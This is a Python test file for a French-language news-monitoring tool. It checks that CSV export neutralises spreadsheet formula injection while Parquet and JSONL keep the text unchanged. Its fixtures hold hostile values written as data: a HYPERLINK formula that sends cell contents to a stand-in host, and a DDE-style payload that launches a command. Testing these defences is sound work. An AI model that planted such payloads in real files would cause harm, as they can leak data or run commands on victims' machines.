"""ACLED CSV formula injection: a title, an outlet or the evidence that starts like a formula
(=, +, -, @, tab, CR) is written with a leading single quote in the CSV, as OWASP advises, so a
spreadsheet shows it and never runs it; numbers (a negative longitude) stay numbers; Parquet and
JSON Lines keep the text as it is."""
from __future__ import annotations

import csv
import io
import json

import pytest

from dbfixtures import event, outcome

BAMAKO_WEST = {"name": "Bamako", "geonameid": 2460596, "country_code": "ML", "lat": 12.65, "lon": -8.0,
               "kind": "city"}
RAW = ("=HYPERLINK(\"http://evil.test/?\"&A1,\"clic\")\n\n"
       "-2+3 morts : des frappes ont touché Bamako mardi, a annoncé le gouverneur.\n")


@pytest.fixture
def store(tmp_path):
    from veille.store import open_store

    with open_store(f"sqlite:///{tmp_path / 'veille.db'}") as s:
        ev = event(RAW, "-2+3 morts : des frappes ont touché Bamako mardi", event_type="Explosions/Remote violence",
                   place=BAMAKO_WEST, day="2025-03-11", fatalities=5)
        o = outcome(RAW, events=[ev], places=[(BAMAKO_WEST, "Bamako")], outlet="@SUM(1+1)*cmd|' /C calc'!A0",
                    url="https://exemple.test/a")
        assert s.write([o]) == ["ingested"]
        yield s


def _export(store, fmt: str) -> bytes:
    from veille.export import export

    buf = io.BytesIO()
    export(store, fmt, buf)
    return buf.getvalue()


def test_export_csv_cells_that_start_like_a_formula_are_quoted(store):
    [row] = list(csv.DictReader(io.StringIO(_export(store, "acled-csv").decode("utf-8"))))
    assert row["veille_document_title"] == "'" + RAW.split("\n")[0]
    assert row["source"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["veille_evidence"].startswith("'-2+3 morts")
    assert row["notes"].startswith("'-2+3 morts")
    # every cell is safe, not only these
    assert not [k for k, v in row.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not _number(v)]
    # numbers stay numbers: the negative longitude is not quoted
    assert row["longitude"] == "-8.0" and float(row["latitude"]) == 12.65 and row["fatalities"] == "5"


def test_export_csv_safe_cases():
    from veille.export import csv_safe

    assert csv_safe("\tcmd") == "'\tcmd" and csv_safe("\r=1") == "'\r=1"
    assert csv_safe("  =1+1") == "'  =1+1"  # spaces some spreadsheets trim first
    assert csv_safe("+33 1 23") == "'+33 1 23"  # not a plain number
    assert csv_safe("-8.5") == "-8.5" and csv_safe("-1e3") == "-1e3" and csv_safe(-8.5) == -8.5
    assert csv_safe("Soudan : les FSR") == "Soudan : les FSR" and csv_safe("") == ""


def test_export_parquet_and_jsonl_keep_the_text(store):
    pq = pytest.importorskip("pyarrow.parquet")
    table = pq.read_table(io.BytesIO(_export(store, "parquet"))).to_pylist()
    assert table[0]["veille_document_title"] == RAW.split("\n")[0]
    assert table[0]["source"] == "@SUM(1+1)*cmd|' /C calc'!A0" and table[0]["longitude"] == -8.0
    [line] = _export(store, "jsonl").decode("utf-8").splitlines()
    assert json.loads(line)["evidence"]["text"].startswith("-2+3 morts")


def _number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False
